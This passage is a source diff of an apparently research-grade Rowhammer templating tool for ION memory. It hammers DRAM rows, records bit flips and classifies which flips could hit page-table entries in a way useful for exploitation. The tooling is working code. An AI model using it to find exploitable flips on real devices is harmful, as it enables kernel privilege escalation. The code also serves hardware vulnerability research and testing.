@@ -15,11 +15,25 @@
  */
 
 
+#include <algorithm>
+#include <map>
+#include <set>
+#include <tuple>
+
 #include <assert.h>
 #include <stdlib.h>
+#include <string.h>
 
+#include "cache.h"
+#include "deadline.h"
 #include "ion.h"
+#include "mapping.h"
+#include "memwatch.h"
+#include "metrics.h"
+#include "perf.h"
 #include "rowsize.h"
+#include "rt.h"
+#include "telemetry.h"
 #include "templating.h"
 
 extern int rowsize;
@@ -38,62 +52,111 @@ extern int rowsize;
 
 
 int spc_flips = 0;
+uint64_t pattern_seed = 0;
+
+/* Random rows are keyed on the seed, the pattern name, the row within the
+ * pattern (0 = above, 1 = victim, 2 = below) and the pattern's generation */
+uint64_t pattern_key(struct pattern_t *pattern, int row) {
+    uint64_t key = pattern_seed;
+    for (const char *c = pattern->name; *c; c++) 
+        key = splitmix64(key ^ (uint8_t) *c);
+    key = splitmix64(key ^ row);
+    return splitmix64(key ^ pattern->generation);
+}
+
+void TMPL_fill_pattern(struct pattern_t *pattern) {
+    uint8_t *rows[3] = { pattern->above, pattern->victim, pattern->below };
+    for (int row = 0; row < 3; row++) {
+        if (pattern->name[row] == 'r') 
+            fill_random(rows[row], rowsize, pattern_key(pattern, row));
+    }
+}
+
+static_assert(sizeof(struct template_t) == 32, "template_t should stay 32 bytes");
 
-bool is_exploitable(struct template_t *tmpl) {
-    int rows_per_chunk = tmpl->ion_len / rowsize;
+static struct ion_chunks *run_chunks;
+static std::vector<struct pattern_t *> *run_patterns;
+static struct tmpl_config *run_cfg;
 
-    dprintf("- bits flipped       : %6d\n", tmpl->bits_set);
-    if (tmpl->bits_set != 1) {
+struct template_t *template_arena::alloc(void) {
+    if (count % TMPL_ARENA_BLOCK == 0) {
+        struct template_t *block = (struct template_t *) malloc(TMPL_ARENA_BLOCK * sizeof(struct template_t));
+        if (block == NULL) {
+            perror("Could not allocate template block");
+            exit(EXIT_FAILURE);
+        }
+        blocks.push_back(block);
+    }
+    struct template_t *tmpl = at(count++);
+    memset(tmpl, 0, sizeof(struct template_t));
+    return tmpl;
+}
+
+template_arena::~template_arena() {
+    for (auto block : blocks) free(block);
+}
+
+bool is_exploitable(struct template_t *tmpl, int ion_len) {
+    int rows_per_chunk = ion_len / rowsize;
+    int bit_index_in_word = tmpl_bit_index_in_word(tmpl);
+    int direction  = tmpl_direction(tmpl);
+    int target_pfn = tmpl_target_pfn(tmpl);
+    int source_pfn = tmpl_source_pfn(tmpl);
+    int target_pfn_row = tmpl_pfn_row(target_pfn);
+    int source_pfn_row = tmpl_pfn_row(source_pfn);
+
+    dprintf("- bits flipped       : %6d\n", tmpl_bits_set(tmpl));
+    if (tmpl_bits_set(tmpl) != 1) {
         dprintf("[ :( ] We support only single flips\n");
         return false;
     }
 
-    dprintf("- index in page table: %6d\n", tmpl->word_index_in_pt);
-    if (tmpl->word_index_in_pt < 0) {
+    dprintf("- index in page table: %6d\n", tmpl_word_index_in_pt(tmpl));
+    if (tmpl_word_index_in_pt(tmpl) < 0) {
         dprintf("[ :( ] Flip will never fall in hardware page table\n");
         return false;
     } 
 
-    dprintf("- index in word      : %6d\n", tmpl->bit_index_in_word);
-    if (tmpl->bit_index_in_word < 12) {
+    dprintf("- index in word      : %6d\n", bit_index_in_word);
+    if (bit_index_in_word < 12) {
         dprintf("[ :( ] Flip is in properties of PTE\n");
         return false;
     }
 
     
-    dprintf("- flip direction     : %s\n", FLIP_DIRECTION_STR(tmpl->direction));
+    dprintf("- flip direction     : %s\n", FLIP_DIRECTION_STR(direction));
    
-    dprintf("- relative target pfn: %6d (row: %6d, idx: %2d, 16k: %6d)\n", tmpl->target_pfn, tmpl->target_pfn_row, tmpl->target_page_index_in_row, tmpl->target_16k_pfn);
-    dprintf("- relative source pfn: %6d (row: %6d, idx: %2d, 16k: %6d)\n", tmpl->source_pfn, tmpl->source_pfn_row, tmpl->source_page_index_in_row, tmpl->source_16k_pfn);
-    if (tmpl->source_pfn_row < 0 || tmpl->source_pfn_row >= rows_per_chunk) {
+    dprintf("- relative target pfn: %6d (row: %6d, idx: %2d, 16k: %6d)\n", target_pfn, target_pfn_row, tmpl_page_index_in_row(target_pfn), tmpl_16k_pfn(target_pfn));
+    dprintf("- relative source pfn: %6d (row: %6d, idx: %2d, 16k: %6d)\n", source_pfn, source_pfn_row, tmpl_page_index_in_row(source_pfn), tmpl_16k_pfn(source_pfn));
+    if (source_pfn_row < 0 || source_pfn_row >= rows_per_chunk) {
         dprintf("[ :( ] Flip offset requires illegal source pfn\n");
         return false;
     }
 
-    if (tmpl->direction == ZERO_TO_ONE) {
+    if (direction == ZERO_TO_ONE) {
         /* A 0-to-1 flip in the PTE acts as an addition. If the new PFN (the
          * page table) is in the same row as the old PFN (the mapped ION data chunk), 
          * it should be (1) ahead of the old one, and (2) fall in a different
          * 'minimum ION chunk boundary' (dictated by what ION allocations go
          * through slab, usually < 16K). */
-        if (tmpl->source_pfn_row == tmpl->target_pfn_row) {
-            if (tmpl->source_16k_pfn >= tmpl->target_16k_pfn) {
+        if (source_pfn_row == target_pfn_row) {
+            if (tmpl_16k_pfn(source_pfn) >= tmpl_16k_pfn(target_pfn)) {
                 dprintf("[ :( ] Target 16k pfn not after source 16k pfn\n");
                 return false;
             } 
-        } else if (tmpl->source_pfn_row > tmpl->target_pfn_row) {
+        } else if (source_pfn_row > target_pfn_row) {
             dprintf("[ :( ] Target row not after source row\n");
             return false;
         } 
     } else {
         /* A 1-to-0 flip in the PTE acts as an addition, so it's all backwards
          * now */
-        if (tmpl->source_pfn_row == tmpl->target_pfn_row) {
-            if (tmpl->source_16k_pfn <= tmpl->target_16k_pfn) {
+        if (source_pfn_row == target_pfn_row) {
+            if (tmpl_16k_pfn(source_pfn) <= tmpl_16k_pfn(target_pfn)) {
                 dprintf("[ :( ] Target 16k pfn not before source 16k pfn\n");
                 return false;
             }
-        } else if (tmpl->source_pfn_row < tmpl->target_pfn_row) {
+        } else if (source_pfn_row < target_pfn_row) {
             dprintf("[ :( ] Target row not before source row\n");
             return false;
         } 
@@ -103,191 +166,533 @@ bool is_exploitable(struct template_t *tmpl) {
     return true;
 }
 
-bool template_exists(std::vector<struct template_t *> &templates, 
-                     uintptr_t virt, uint32_t org_byte, uint32_t new_byte) {
+bool template_exists(struct template_arena &templates, uint32_t chunk, 
+                     uint32_t rel_address, uint8_t org_byte, uint8_t new_byte) {
     for (auto tmpl : templates) {
-        if (tmpl->virt_addr == virt && 
-            tmpl->org_byte == org_byte &&
-            tmpl->new_byte == new_byte) return true;
+        if (tmpl->rel_address == rel_address && 
+            tmpl->chunk == chunk &&
+            tmpl_org_byte(tmpl) == org_byte &&
+            tmpl_new_byte(tmpl) == new_byte) return true;
     }
     return false;
 }   
+
+/* index of <item> in the vector given to TMPL_run() */
+template <typename T>
+uint32_t run_index(std::vector<T *> *items, T *item) {
+    return std::find(items->begin(), items->end(), item) - items->begin();
+}
            
 
 void handle_flip(uint8_t *virt_row, 
-                 uintptr_t *virt_above, 
-                 uintptr_t *virt_below, 
-                 uint8_t *pattern, 
-        std::vector<struct template_t *> &templates, int index_in_row, struct ion_data *chunk) {
-
-    struct template_t *tmpl = (struct template_t *) malloc(sizeof(struct template_t)); 
-
-    tmpl->virt_row   = (uintptr_t) virt_row;
-    tmpl->virt_addr  = (uintptr_t) virt_row + index_in_row;
-    tmpl->phys_addr  = (uintptr_t) get_phys_addr(tmpl->virt_addr);
-    tmpl->virt_page  = (uintptr_t) (tmpl->virt_addr / PAGESIZE) * PAGESIZE;
-    tmpl->virt_above = (uintptr_t) virt_above;
-    tmpl->virt_below = (uintptr_t) virt_below;
-    
-    tmpl->org_byte   = (uint8_t)  pattern[index_in_row];
-    tmpl->new_byte   = (uint8_t) virt_row[index_in_row];
-    tmpl->org_word   = (uint32_t) ((uint32_t *) pattern)[index_in_row / 4];
-    tmpl->new_word   = (uint32_t) ((uint32_t *)virt_row)[index_in_row / 4];
-    tmpl->xorred_byte = tmpl->org_byte ^ tmpl->new_byte;
-    tmpl->xorred_word = tmpl->org_word ^ tmpl->new_word;
-    tmpl->bits_set    = __builtin_popcount(tmpl->xorred_word);
-
-    tmpl->byte_index_in_row  = index_in_row;
-    tmpl->byte_index_in_page = index_in_row % PAGESIZE;
-    tmpl->word_index_in_page = tmpl->byte_index_in_page / 4;
-    tmpl->word_index_in_pt   = tmpl->word_index_in_page - 512;
-    tmpl->bit_index_in_word  = ffs(tmpl->xorred_word) - 1;
-
-    tmpl->org_bit   = (tmpl->org_word & tmpl->xorred_word) >> tmpl->bit_index_in_word;
-    tmpl->direction = tmpl->org_bit ? ONE_TO_ZERO : ZERO_TO_ONE;
-
-    tmpl->ion_chunk = chunk;
-    tmpl->ion_len   = chunk->len;
-
-    tmpl->rel_address   = (uintptr_t) tmpl->virt_addr - (uintptr_t) tmpl->ion_chunk->mapping;
-    tmpl->rel_row_index = tmpl->rel_address / rowsize;
-    tmpl->rel_pfn       = tmpl->rel_address / PAGESIZE;
-
-    tmpl->target_pfn     = tmpl->rel_pfn;
-    tmpl->source_pfn     = tmpl->target_pfn ^ (1 << (tmpl->bit_index_in_word - 12));
-    tmpl->target_pfn_row = tmpl->target_pfn / PAGES_PER_ROW;
-    tmpl->source_pfn_row = tmpl->source_pfn / PAGES_PER_ROW;
-    tmpl->target_pte     = tmpl->target_pfn << 12;
-    tmpl->source_pte     = tmpl->source_pfn << 12;
-    tmpl->target_page_index_in_row = tmpl->target_pfn - (tmpl->target_pfn_row * PAGES_PER_ROW);
-    tmpl->source_page_index_in_row = tmpl->source_pfn - (tmpl->source_pfn_row * PAGES_PER_ROW);
-
-    tmpl->target_16k_pfn = tmpl->target_pfn / 4;
-    tmpl->source_16k_pfn = tmpl->source_pfn / 4;
-    tmpl->found_at = time(NULL);
+                 struct pattern_t *pat, 
+        struct template_arena &templates, int index_in_row, int chunk) {
+
+    uint8_t *pattern = pat->victim;
+    uintptr_t virt_addr = (uintptr_t) virt_row + index_in_row;
+
+    struct template_t *tmpl = templates.alloc();
+
+    tmpl->phys_addr   = get_phys_addr(virt_addr);
+    tmpl->rel_address = virt_addr - (uintptr_t) run_chunks->mapping[chunk];
+    tmpl->chunk       = chunk;
+    tmpl->org_word    = ((uint32_t *) pattern)[index_in_row / 4];
+    tmpl->new_word    = ((uint32_t *)virt_row)[index_in_row / 4];
+    tmpl->found_at    = time(NULL);
+    tmpl->pattern     = run_index(run_patterns, pat);
     
     
-    print("[FLIP] i:%p l:%d v:%p p:%p b:%5d 0x%08x != 0x%08x s:%d", 
-                     tmpl->ion_chunk->mapping, 
-                     tmpl->ion_len,
-            (void *) tmpl->virt_addr, 
+    print("[FLIP] i:%p l:%d v:%p p:%p b:%5d 0x%08x != 0x%08x s:%d pat:%s seed:%llu gen:%u", 
+                     run_chunks->mapping[chunk], 
+                     run_chunks->len[chunk],
+            (void *) virt_addr, 
             (void *) tmpl->phys_addr, 
-                     tmpl->byte_index_in_row,
+                     index_in_row,
                      tmpl->org_word, 
                      tmpl->new_word,
-                     tmpl->found_at);
+                     tmpl->found_at,
+                     pat->name,
+                     (unsigned long long) pattern_seed,
+                     pat->generation);
+    if (dram_mapping.valid && tmpl->phys_addr) 
+        print(" bank:%d row:%llu", MAP_bank(tmpl->phys_addr), (unsigned long long) MAP_row(tmpl->phys_addr));
     printf("\n");
    
-    tmpl->maybe_exploitable = is_exploitable(tmpl);
+    if (is_exploitable(tmpl, run_chunks->len[chunk])) tmpl->flags |= TMPL_EXPLOITABLE;
     if (global_of) {
-        if (tmpl->maybe_exploitable) fprintf(global_of, "!\n");
+        if (tmpl_exploitable(tmpl)) fprintf(global_of, "!\n");
         else fprintf(global_of,"\n");
     }
-    
-    templates.push_back(tmpl);
-    
-
+    if (run_cfg->on_flip) run_cfg->on_flip(tmpl, run_cfg->cb_arg);
 }
     
-int get_exploitable_flip_count(std::vector<struct template_t *> &templates) {
+int get_exploitable_flip_count(struct template_arena &templates) {
     int count = 0;
     for (auto tmpl : templates) {
-        if (tmpl->maybe_exploitable) count++;
+        if (tmpl_exploitable(tmpl)) count++;
     }
     return count;
 }
-int get_direction_flip_count(std::vector<struct template_t *> &templates, int direction) {
+int get_direction_flip_count(struct template_arena &templates, int direction) {
     int count = 0;
     for (auto tmpl : templates) {
-        if (tmpl->direction == direction) count++;
+        if (tmpl_direction(tmpl) == direction) count++;
     }
     return count;
 }
-struct template_t * get_first_exploitable_flip(std::vector<struct template_t *> &templates) {
+struct template_t * get_first_exploitable_flip(struct template_arena &templates) {
     for (auto tmpl : templates) {
-        if (tmpl->maybe_exploitable) return tmpl;
+        if (tmpl_exploitable(tmpl)) return tmpl;
     }
     return NULL;
 }
 
-int find_flips_in_row(std::vector<struct template_t *> &templates, uintptr_t phys1) {
-    int flips = 0;
-    for (auto tmpl : templates) {
-        if (tmpl->phys_addr >= phys1 && tmpl->phys_addr < (phys1 + rowsize)) flips++;
+/* Index the physical memory of <chunks>: physically contiguous chunks are one
+ * range, other chunks are looked up in pagemap once, page by page, and runs
+ * of consecutive pages are merged into one range. */
+void TMPL_index_phys(struct ion_chunks &chunks, struct phys_index &index) {
+    index.ranges.clear();
+    for (int i = 0; i < (int) chunks.size(); i++) {
+        if (ION_rows(chunks, i) == 0) continue;
+        if (chunks.phys[i]) {
+            index.ranges[chunks.phys[i]] = { i, 0, chunks.len[i] };
+            continue;
+        }
+        uint64_t start = 0;
+        struct phys_range_t *range = NULL;
+        for (int page = 0; page < chunks.len[i] / PAGESIZE; page++) {
+            uint64_t phys = get_phys_addr((uintptr_t) chunks.mapping[i] + page * PAGESIZE);
+            if (phys == 0) continue;
+            if (range && phys == start + range->len && page * PAGESIZE == range->offset + range->len) {
+                range->len += PAGESIZE;
+                continue;
+            }
+            start = phys;
+            range = &index.ranges[phys];
+            *range = { i, page * PAGESIZE, PAGESIZE };
+        }
     }
-    return flips;
 }
 
-int do_hammer(uint8_t *virt_row,
-     volatile uintptr_t *virt_above,
-     volatile uintptr_t *virt_below,
-              uint8_t *pattern_above, 
-              uint8_t *pattern, 
-              uint8_t *pattern_below,
-              std::vector<struct template_t *> &templates, struct ion_data *chunk,
-              int hammer_readcount) {
+/* Find the byte at <needle->phys_addr> in the hammerable rows of the chunks
+ * in <index> (see TMPL_index_phys()). If it is there, fill in the chunk and
+ * relative address of <needle> for the current allocation and return it,
+ * otherwise return NULL. */
+struct template_t *find_template_in_rows(struct ion_chunks &chunks, struct phys_index &index, struct template_t *needle) {
+    auto it = index.ranges.upper_bound(needle->phys_addr);
+    if (it == index.ranges.begin()) return NULL;
+    --it;
+    if (needle->phys_addr >= it->first + it->second.len) return NULL;
+
+    int i = it->second.chunk;
+    int64_t rel_address = it->second.offset + (needle->phys_addr - it->first);
+
+    /* the first and last row of a chunk are never victims (see ION_rows()) */
+    int row = rel_address / rowsize;
+    if (row < 1 || row > ION_rows(chunks, i)) return NULL;
+
+    needle->chunk = i;
+    needle->rel_address = rel_address;
+    return needle;
+}
+
+int64_t bytes_hammered;
+int rows_hammered;
+time_t start_time;
+std::vector<uint64_t> readtimes;
+
+/* Each hammer round takes a timestamp every 1/ROUND_SLICES of its reads, which
+ * gives a small distribution of read times per round without touching the
+ * inner loop. A round did not really hammer DRAM if part of it ran at cache
+ * speed, or if it was stalled (preempted) for a significant part of it. */
+#define ROUND_SLICES   64
+#define ROUND_RETRIES  2   // hammer a flagged round at most this many more times
+#define PREEMPT_FACTOR 2   // slice more than twice as slow as the median slice
+#define CACHE_FACTOR   2   // slice more than twice as fast as the run's median
+#define CACHE_HIT_NS   10  // reads faster than this can not come from DRAM
+
+struct round_t {
+    int ns_per_read;
+    int p10, p50, p90, max;    // ns per read, over the slices of this round
+    bool cached;
+    bool preempted;
+    bool stopped;              // cut short because the deadline expired
+    struct perf_counts perf;   // only valid with --perf
+};
+
+/* hardware counters of all hammer rounds, including retries */
+struct perf_counts perf_total;
+uint64_t perf_reads;
+
+void analyze_round(uint64_t *slice_ns, int slices, struct round_t *round) {
+    std::sort(slice_ns, slice_ns + slices);
+    round->p10 = slice_ns[slices / 10];
+    round->p50 = slice_ns[slices / 2];
+    round->p90 = slice_ns[slices * 9 / 10];
+    round->max = slice_ns[slices - 1];
+
+    /* the run's median read time only drifts slowly, refresh it now and then */
+    static int run_median = 0;
+    if (readtimes.size() % ROUND_SLICES == 0) run_median = compute_median(readtimes);
+    int reference = std::max(CACHE_HIT_NS, run_median / CACHE_FACTOR);
+    round->cached    = round->p10 < reference;
+    round->preempted = slices > 1 && round->max > round->p50 * PREEMPT_FACTOR;
+}
+
+/* Verify kernel: a 64-byte block (one cache line) is compared as 64-bit words
+ * whose differences are OR-ed together, without a branch per word. gcc turns
+ * this into NEON or SSE2 code on aarch64 and x86-64 and into pairs of 32-bit
+ * loads on ARMv7. */
+#define VERIFY_BLOCK 64
+
+static inline bool block_differs(const uint8_t *a, const uint8_t *b) {
+    const uint64_t *wa = (const uint64_t *) a;
+    const uint64_t *wb = (const uint64_t *) b;
+    uint64_t diff = 0;
+    for (int w = 0; w < VERIFY_BLOCK / (int) sizeof(uint64_t); w++) 
+        diff |= wa[w] ^ wb[w];
+    return diff != 0;
+}
+
+/* cells (see cell_key()) that lost their value in the retention control pass,
+ * and the number of differences in those cells that we did not count as flips */
+std::set<uint64_t> retention_cells;
+int retention_excluded;
+
+static inline uint64_t cell_key(int chunk, uintptr_t virt) {
+    return ((uint64_t) chunk << 32) | (uint32_t) (virt - (uintptr_t) run_chunks->mapping[chunk]);
+}
+
+static inline bool is_retention_cell(int chunk, uintptr_t virt) {
+    if (retention_cells.empty() || !retention_cells.count(cell_key(chunk, virt))) return false;
+    retention_excluded++;
+    return true;
+}
+
+/* a row to hammer, as scheduled by run_sequential() or run_stratified() */
+struct hammer_row_t {
+    int chunk;                // index in the chunk table
+    uintptr_t virt_row;
+    uint64_t phys_row;
+    int stratum;
+    double key;
+    int bank;                 // bank (class) of the row, -1 if not known yet, see row_bank()
+};
+
+/* flipped bytes in victim rows, known or new, since the last reset (see run_sweep()) */
+static int victim_diffs;
+
+/* Compare a victim row and its aggressor rows against the original patterns.
+ * Reads from uncached memory are expensive, so we compare a block at a time
+ * (see block_differs()) and only look at the individual bytes of blocks that
+ * differ. <new_flips> counts the new flips of the whole round. */
+void verify_row(struct hammer_row_t *row, struct pattern_t *pat, 
+                struct template_arena &templates, int *new_flips) {
+    int chunk = row->chunk;
+    uint8_t *virt_row  = (uint8_t *) row->virt_row;
+    uint8_t *row_above = virt_row - rowsize;
+    uint8_t *row_below = virt_row + rowsize;
+    uint8_t *pattern_above = pat->above;
+    uint8_t *pattern       = pat->victim;
+    uint8_t *pattern_below = pat->below;
+
+    for (int b = 0; b < rowsize; b += VERIFY_BLOCK) {
+        if (!block_differs(virt_row  + b, pattern       + b) &&
+            !block_differs(row_above + b, pattern_above + b) &&
+            !block_differs(row_below + b, pattern_below + b)) continue;
+
+        for (int i = b; i < b + VERIFY_BLOCK; i++) {
+            if (virt_row[i] != pattern[i] && !is_retention_cell(chunk, (uintptr_t) virt_row + i)) {
+                victim_diffs++;
+                uint32_t rel_address = (uintptr_t) virt_row + i - (uintptr_t) run_chunks->mapping[chunk];
+                if (template_exists(templates, chunk, rel_address, pattern[i], virt_row[i])) continue;
+
+                (*new_flips)++;
+                if (*new_flips == 1) printf("\n");
+
+                handle_flip(virt_row, pat, templates, i, chunk);
+            }
+
+            if (row_above[i] != pattern_above[i] && !is_retention_cell(chunk, (uintptr_t) row_above + i)) {
+                spc_flips++;
+                (*new_flips)++;
+                if (*new_flips == 1) printf("\n");
+                print("[SPECIAL FLIP] v:%p 0x%02x != 0x%02x\n", row_above + i, row_above[i], pattern_above[i]);
+            }
+            if (row_below[i] != pattern_below[i] && !is_retention_cell(chunk, (uintptr_t) row_below + i)) {
+                spc_flips++;
+                (*new_flips)++;
+                if (*new_flips == 1) printf("\n");
+                print("[SPECIAL FLIP] v:%p 0x%02x != 0x%02x\n", row_below + i, row_below[i], pattern_below[i]);
+            }
+        }
+    }
+}
+
+void print_deltas_header(struct hammer_row_t **rows, int n) {
+    printf("[TMPL - deltas] virtual row %llu", (unsigned long long) (rows[0]->virt_row / rowsize));
+    for (int k = 1; k < n; k++) 
+        printf(",%llu", (unsigned long long) (rows[k]->virt_row / rowsize));
+    printf(": ");
+}
+
+/* Hammer one round: write the patterns to the <n> victim rows in <rows> and
+ * their aggressor rows, hammer the aggressor pairs at <offset> and verify.
+ * Rows of a batch sit in different banks (see next_batch()). Reads of
+ * different pairs then do not close each other's rows, so we interleave them
+ * and let the memory controller serve the banks in parallel: every pair still
+ * gets <hammer_readcount> activations, while a single round covers n rows.
+ * Returns the time per read in ns. */
+int do_hammer(struct hammer_row_t **rows, int n, int offset,
+              struct pattern_t *pat,
+              struct template_arena &templates,
+              int hammer_readcount, struct round_t *round) {
 
     int new_flips = 0;
+    int reads = 2 * n;  // reads per iteration
+    volatile uintptr_t *aggressors[2 * TMPL_MAX_BATCH];
 
-    /* write pattern to victim row */
-    memcpy(virt_row, pattern, rowsize);
+    /* write patterns to victim and aggressor rows */
+    for (int k = 0; k < n; k++) {
+        uint8_t *virt_row = (uint8_t *) rows[k]->virt_row;
+        memcpy(virt_row - rowsize, pat->above,  rowsize);
+        memcpy(virt_row,           pat->victim, rowsize);
+        memcpy(virt_row + rowsize, pat->below,  rowsize);
+        CACHE_flush(virt_row - rowsize, 3 * rowsize);   // patterns to DRAM before hammering
+        aggressors[2 * k]     = (volatile uintptr_t *) (virt_row - rowsize + offset);
+        aggressors[2 * k + 1] = (volatile uintptr_t *) (virt_row + rowsize + offset);
+    }
+    volatile uintptr_t *virt_above = aggressors[0];
+    volatile uintptr_t *virt_below = aggressors[1];
   
     /* hammer */
+    uint64_t slice_ns[ROUND_SLICES + 1];
+    uint64_t slice_raw[ROUND_SLICES + 1];   // the same, in ns per slice (see RT_slices())
+    int slice_reads[ROUND_SLICES + 1];
+    int slices = 0;
+    int slice = std::max(1, (hammer_readcount + ROUND_SLICES - 1) / ROUND_SLICES);
+    struct perf_counts perf_before, perf_after;
+    if (perf_enabled) PERF_read(&perf_before);
     uint64_t t1 = get_ns();
-    for (int i = 0; i < hammer_readcount; i++) {
-        *virt_above;
-        *virt_below;
+    uint64_t t_prev = t1;
+    int done = 0;
+    round->stopped = false;
+    while (done < hammer_readcount) {
+        int count = std::min(slice, hammer_readcount - done);
+        if (n == 1 && ion_cached) {
+            for (int i = 0; i < count; i++) {
+                *virt_above;
+                *virt_below;
+                clflush(virt_above);
+                clflush(virt_below);
+            }
+        } else if (n == 1) {
+            for (int i = 0; i < count; i++) {
+                *virt_above;
+                *virt_below;
+            }
+        } else if (ion_cached) {
+            for (int i = 0; i < count; i++) {
+                for (int j = 0; j < reads; j++) 
+                    *aggressors[j];
+                for (int j = 0; j < reads; j++) 
+                    clflush(aggressors[j]);
+            }
+        } else {
+            for (int i = 0; i < count; i++) {
+                for (int j = 0; j < reads; j++) 
+                    *aggressors[j];
+            }
+        }
+        done += count;
+        uint64_t t_slice = get_ns();
+        slice_raw[slices]   = t_slice - t_prev;
+        slice_reads[slices] = count * reads;
+        slice_ns[slices++] = (t_slice - t_prev) / (count * reads);
+        t_prev = t_slice;
+
+        /* a deadline stops the round after at most one slice */
+        if (done < hammer_readcount && DL_expired()) {
+            round->stopped = true;
+            break;
+        }
+    }
+    uint64_t t2 = t_prev;
+    if (perf_enabled) {
+        PERF_read(&perf_after);
+        PERF_diff(&perf_before, &perf_after, &round->perf);
+        PERF_add(&perf_total, &round->perf);
+        perf_reads += (uint64_t) done * reads;
     }
-    uint64_t t2 = get_ns();
-    int ns_per_read = (t2 - t1) / (hammer_readcount * 2);
+    int ns_per_read = (t2 - t1) / ((uint64_t) done * reads);
+    round->ns_per_read = ns_per_read;
+    analyze_round(slice_ns, slices, round);
+    RT_slices(slice_raw, slice_reads, slices);
             
-    uint8_t *row_above = (uint8_t *) ((uintptr_t) virt_row - rowsize);
-    uint8_t *row_below = (uint8_t *) ((uintptr_t) virt_row + rowsize);
+    /* drop lines the hammer loop or the prefetcher brought in, so that we
+     * verify what is in DRAM */
+    for (int k = 0; k < n; k++) 
+        CACHE_flush((uint8_t *) rows[k]->virt_row - rowsize, 3 * rowsize);
+    for (int k = 0; k < n; k++) 
+        verify_row(rows[k], pat, templates, &new_flips);
+    if (new_flips > 0)  
+        print_deltas_header(rows, n);
 
-    /* compare bytes of the victim row again the original pattern */
-    for (int i = 0; i < rowsize; i++) {
-        if (virt_row[i] != pattern[i] ) {
-            if (template_exists(templates, (uintptr_t) virt_row + i, pattern[i], virt_row[i])) continue;
+    return ns_per_read;
+}
 
-            new_flips++;
-            if (new_flips == 1) printf("\n");
 
-            handle_flip(virt_row, 
-                        (uintptr_t *) virt_above, 
-                        (uintptr_t *) virt_below, 
-                        pattern, templates, i, chunk);
-        }
 
-        if (row_above[i] != pattern_above[i] ) {
-            spc_flips++;
-            new_flips++;
-            if (new_flips == 1) printf("\n");
-            print("[SPECIAL FLIP] v:%p 0x%08x != 0x%08x\n", (uintptr_t) virt_above + i, virt_above[i], pattern_above[i]);
-        }
-        if (row_below[i] != pattern_below[i]) {
-            spc_flips++;
-            new_flips++;
-            if (new_flips == 1) printf("\n");
-            print("[SPECIAL FLIP] v:%p 0x%08x != 0x%08x\n", (uintptr_t) virt_below + i, virt_below[i], pattern_below[i]);
+/* read time distribution of the last hammered row */
+struct row_stats_t {
+    std::vector<uint64_t> readtimes;
+    int p90_max;       // highest p90 of any round
+    int cached;        // rounds flagged for cache hits
+    int preempted;     // rounds flagged for preemption
+    int retries;
+} row_stats;
+
+/* the same, summed over the whole run */
+int run_preempted;
+int run_rounds;
+
+/* publish the counters of the last status line (see metrics.cc), as computed
+ * by the caller: these are too expensive to gather again for every row */
+void update_metrics(struct template_arena &templates, int exploitable, int median_ns, int row_median_ns) {
+    if (!MET_enabled() && !run_cfg->on_progress) return;
+    struct met_snapshot snapshot = {
+        .flips = (int) templates.size(),
+        .exploitable = exploitable,
+        .rows = rows_hammered,
+        .bytes_hammered = bytes_hammered,
+        .median_ns = median_ns,
+        .row_median_ns = row_median_ns,
+        .row_p90_ns = row_stats.p90_max,
+        .runtime = (int) (time(NULL) - start_time),
+    };
+    MET_update(snapshot);
+    if (run_cfg->on_progress) run_cfg->on_progress(&snapshot, run_cfg->cb_arg);
+}
+
+void print_status(struct template_arena &templates) {
+    int median_readtime = compute_median(readtimes);
+    int seconds_passed = time(NULL) - start_time;
+    int flips = templates.size();
+    int exploitable_flips = get_exploitable_flip_count(templates);
+    int row_median = compute_median(row_stats.readtimes);
+    double kb_per_flip, percentage_exploitable;
+    int to0, to1;
+    if (flips > 0) {
+        kb_per_flip = (bytes_hammered / 1024) / (double)  flips;
+        percentage_exploitable = (double) exploitable_flips / (double) flips * 100.0;
+        to0 = get_direction_flip_count(templates, ONE_TO_ZERO);
+        to1 = get_direction_flip_count(templates, ZERO_TO_ONE);
+    } else {
+        kb_per_flip = 0.0;
+        percentage_exploitable = 0.0;
+        to0 = 0;
+        to1 = 0;
+    }
+
+    print("[TMPL - status] flips: %d | expl: %d | hammered: %lld | runtime: %d | median: %d | kb_per_flip: %5.2f | perc_expl: %5.2f | special: %d | 0-to-1: %d | 1-to-0: %d"
+          " | row median: %d | row p90: %d | cached: %d | preempted: %d | retries: %d | freq: %d | temp: %.1f | paused: %d\n", 
+            flips, exploitable_flips, (long long) bytes_hammered, seconds_passed, median_readtime, kb_per_flip, percentage_exploitable, spc_flips, to1, to0,
+            row_median, row_stats.p90_max, row_stats.cached, row_stats.preempted, row_stats.retries,
+            tel_freq / 1000, tel_temp / 1000.0, (int) tel_paused);
+
+    update_metrics(templates, exploitable_flips, median_readtime, row_median);
+}
+
+void print_row(struct hammer_row_t *row) {
+    uintptr_t virt_row = row->virt_row;
+    uint64_t phys_row = row->phys_row;
+    unsigned long long virt_row_index = virt_row / rowsize;
+    unsigned long long phys_row_index = phys_row / rowsize;
+
+    if (dram_mapping.valid && phys_row) {
+        print("[TMPL - hammer] virtual row %llu: %p | physical row %llu: 0x%llx | bank %d row %llu\n", 
+                virt_row_index, (void *) virt_row, phys_row_index, (unsigned long long) phys_row, MAP_bank(phys_row), (unsigned long long) MAP_row(phys_row));
+
+        /* the aggressors should be the neighbouring rows in the same bank */
+        uint64_t phys_above = get_phys_addr(virt_row - rowsize);
+        uint64_t phys_below = get_phys_addr(virt_row + rowsize);
+        if (MAP_bank(phys_above) != MAP_bank(phys_row) || MAP_row(phys_above) + 1 != MAP_row(phys_row) ||
+            MAP_bank(phys_below) != MAP_bank(phys_row) || MAP_row(phys_below) != MAP_row(phys_row) + 1) {
+            print("[TMPL - hammer] WARNING! aggressors not adjacent: above bank %d row %llu | below bank %d row %llu\n",
+                    MAP_bank(phys_above), (unsigned long long) MAP_row(phys_above), MAP_bank(phys_below), (unsigned long long) MAP_row(phys_below));
         }
+    } else {
+        print("[TMPL - hammer] virtual row %llu: %p | physical row %llu: 0x%llx\n", 
+                virt_row_index, (void *) virt_row, phys_row_index, (unsigned long long) phys_row);
     }
-    if (new_flips > 0)  
-        printf("[TMPL - deltas] virtual row %d: ", (uintptr_t) virt_row / rowsize);
+}
 
-    return ns_per_read;
+/* Pattern scheduler (--bandit): with many patterns, most rounds go to patterns
+ * that never flip anything on this device. With the scheduler, every offset is
+ * only hammered with one in BANDIT_FRACTION patterns. Most of these slots go to
+ * the patterns with the highest yield so far (new flips per round, starting
+ * from an optimistic one flip in one round, so that untried patterns go first).
+ * <cfg.explore> percent of all slots go to a random other pattern instead, so
+ * that patterns that flip rarely are still found. The random choices derive
+ * from the pattern seed. */
+#define BANDIT_FRACTION 4
+
+struct pattern_stats_t {
